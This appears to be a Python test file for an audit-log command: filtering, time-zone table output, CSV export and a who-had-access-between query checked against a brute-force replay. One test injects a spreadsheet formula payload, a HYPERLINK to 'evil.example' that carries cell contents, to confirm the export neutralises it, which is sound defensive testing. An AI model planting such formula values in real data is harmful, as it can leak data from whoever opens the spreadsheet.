"""`envoy-proxy audit`: filters that combine, table, JSON and CSV safe to open in a spreadsheet,
and `--who-had-access-between` with its edges (a property against a brute-force answer)."""

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import db
from daemon.__main__ import main
from daemon.access import audit
from daemon.ops import audit_report

T0 = 1_790_000_000  # 2026-09-21 UTC


@pytest.fixture
def store(tmp_path):
    path = str(tmp_path / "audit.sqlite3")
    db.open_database(path)
    with db.database.connection_context():
        db.migrate()
    yield path
    db.close_database()


def run(capsys, store, *argv):
    code = main([*argv, "--db", store])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def _entry(kind, at, grant_id=None, email=None, name=None, install="install-1", **extra):
    with db.database.connection_context(), db.database.atomic():
        audit.record(
            kind,
            at=at,
            grant_id=grant_id,
            email=email,
            full_name=name,
            install_id=install,
            subject=f"entries:{grant_id}",
            **extra,
        )


def _visits():
    _entry(audit.PLANNED, T0, 1, "ada@example.com", "Ada Lovelace")
    _entry(audit.ISSUED, T0 + 10, 1, "ada@example.com", "Ada Lovelace")
    _entry(audit.IGNORED, T0 + 20, None, "bob@example.com", "Bob Builder", reason="not mapped")
    _entry(audit.ISSUED, T0 + 30, 3, "cy@example.com", "Cy Young", install="install-2")
    _entry(audit.ENDED, T0 + 40, 1, "ada@example.com", "Ada Lovelace", reason="sign-out")


def _kinds(out):
    return [(e["kind"], e["email"]) for e in json.loads(out)]


def test_filters_combine(store, capsys):
    _visits()
    code, out, err = run(capsys, store, "audit", "--email", "ADA@example.com", "--json")
    assert code == 0, err
    assert _kinds(out) == [
        (audit.PLANNED, "ada@example.com"),
        (audit.ISSUED, "ada@example.com"),
        (audit.ENDED, "ada@example.com"),
    ]
    _, out, _ = run(capsys, store, "audit", "--name", "builder", "--json")
    assert _kinds(out) == [(audit.IGNORED, "bob@example.com")]
    _, out, _ = run(capsys, store, "audit", "--install", "install-2", "--json")
    assert _kinds(out) == [(audit.ISSUED, "cy@example.com")]
    since, until = str(T0 + 10), "2026-09-21T14:13:50+00:00"  # T0 + 30: excluded
    _, out, _ = run(capsys, store, "audit", "--since", since, "--until", until, "--json")
    assert [e["at"] for e in json.loads(out)] == [T0 + 10, T0 + 20]
    _, out, _ = run(
        capsys, store, "audit", "--email", "ada@example.com", "--since", str(T0 + 5), "--json"
    )
    assert _kinds(out) == [(audit.ISSUED, "ada@example.com"), (audit.ENDED, "ada@example.com")]
    _, out, _ = run(capsys, store, "audit", "--limit", "2", "--json")
    assert [e["at"] for e in json.loads(out)] == [T0 + 30, T0 + 40]


def test_the_table_says_when_in_the_installs_zone_and_why(store, capsys):
    with db.database.connection_context(), db.database.atomic():
        db.Install.create(
            install_id="install-1", timezone="Europe/Paris", config={}, created_at=T0, updated_at=T0
        )
    _visits()
    code, out, _ = run(capsys, store, "audit", "--email", "bob@example.com")
    assert code == 0
    header, row = out.splitlines()
    assert header.split()[:3] == ["WHEN", "KIND", "ACTOR"]
    assert "2026-09-21 16:13 CEST" in row and "not mapped" in row
    _, out, _ = run(capsys, store, "audit", "--email", "nobody@example.com")
    assert out.strip() == "nothing found"


def test_naive_times_are_utc_and_bad_ones_refused(store, capsys):
    _visits()
    _, out, _ = run(capsys, store, "audit", "--since", "2026-09-21T14:13:50", "--json")
    assert [e["at"] for e in json.loads(out)] == [T0 + 30, T0 + 40]
    with pytest.raises(SystemExit):
        main(["audit", "--since", "last tuesday", "--db", store])
    assert "ISO 8601" in capsys.readouterr().err


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(store, capsys, start):
    name = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    _entry(audit.IGNORED, T0, None, "eve@example.com", name, reason="-2+3")
    code, out, _ = run(capsys, store, "audit", "--csv")
    assert code == 0
    [header, row] = list(csv.reader(io.StringIO(out)))
    assert header == audit_report.FIELDS
    cells = dict(zip(header, row, strict=True))
    assert cells["full_name"] == "'" + name
    assert cells["reason"] == "'-2+3"
    assert cells["email"] == "eve@example.com"  # ordinary text untouched
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_who_had_access_between_lists_the_windows(store, capsys):
    _visits()
    code, out, err = run(
        capsys, store, "audit", "--who-had-access-between", str(T0 + 35), str(T0 + 50), "--json"
    )
    assert code == 0, err
    found = json.loads(out)
    assert [(p["email"], [(w["from"], w["until"]) for w in p["windows"]]) for p in found] == [
        ("ada@example.com", [(T0 + 10, T0 + 40)]),
        ("cy@example.com", [(T0 + 30, None)]),
    ]
    _, out, _ = run(capsys, store, "audit", "--who-had-access-between", str(T0 + 35), str(T0 + 50))
    assert "still active" in out and "Cy Young" in out
    _, out, _ = run(
        capsys, store, "audit", "--who-had-access-between", str(T0), str(T0 + 50), "--csv"
    )
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["email"], r["until_utc"]) for r in rows] == [
        ("ada@example.com", "2026-09-21T14:14:00+00:00"),
        ("cy@example.com", ""),
    ]


def test_who_had_access_between_refuses_a_backwards_interval(store, capsys):
    code, _, err = run(capsys, store, "audit", "--who-had-access-between", str(T0), str(T0))
    assert code == 1 and "after the first" in err


@pytest.mark.parametrize(
    ("start", "end", "listed"),
    [
        (T0 + 40, T0 + 60, False),  # ended exactly when the interval began
        (T0 - 10, T0 + 10, False),  # began exactly when the interval ended
        (T0 + 10, T0 + 11, True),  # began exactly when the interval began
        (T0 + 39, T0 + 40, True),  # the last second of access
        (T0 - 100, T0 + 100, True),  # the interval holds the whole window
        (T0 + 20, T0 + 30, True),  # the window holds the whole interval
    ],
)
def test_overlap_edges(store, start, end, listed):
    _entry(audit.ISSUED, T0 + 10, 1, "ada@example.com")
    _entry(audit.ENDED, T0 + 40, 1, "ada@example.com")
    with db.database.connection_context():
        assert bool(audit_report.access_between(start, end)) is listed


@settings(max_examples=60, deadline=None)
@given(
    marks=st.lists(
        st.tuples(
            st.integers(1, 3), st.sampled_from([audit.ISSUED, audit.ENDED]), st.integers(0, 50)
        ),
        max_size=12,
    ),
    start=st.integers(0, 50),
    length=st.integers(1, 30),
)
def test_overlap_agrees_with_a_second_by_second_replay(tmp_path_factory, marks, start, length):
    """Whoever the trail shows with access during any second of [start, end) is listed."""
    db.open_database(str(tmp_path_factory.mktemp("p") / "p.sqlite3"))
    try:
        with db.database.connection_context():
            db.migrate()
            ordered = sorted(marks, key=lambda m: m[2])
            with db.database.atomic():
                for grant_id, kind, at in ordered:
                    audit.record(kind, at=at, grant_id=grant_id, install_id="i")
            end = start + length
            listed = {p["grant_id"] for p in audit_report.access_between(start, end)}
        assert listed == _replayed(ordered, start, end)
    finally:
        db.close_database()


def _replayed(ordered, start, end) -> set[int]:
    """The grants with access during some second of [start, end), second by second."""
    spans: dict[int, list[list]] = {}
    for grant_id, kind, at in ordered:
        windows = spans.setdefault(grant_id, [])
        if kind == audit.ISSUED and not (windows and windows[-1][1] is None):
            windows.append([at, None])
        elif kind == audit.ENDED and windows and windows[-1][1] is None:
            windows[-1][1] = at
    return {
        grant_id
        for grant_id, windows in spans.items()
        for second in range(start, end)
        for begin, until in windows
        if begin <= second and (until is None or second < max(until, begin + 1))
    }
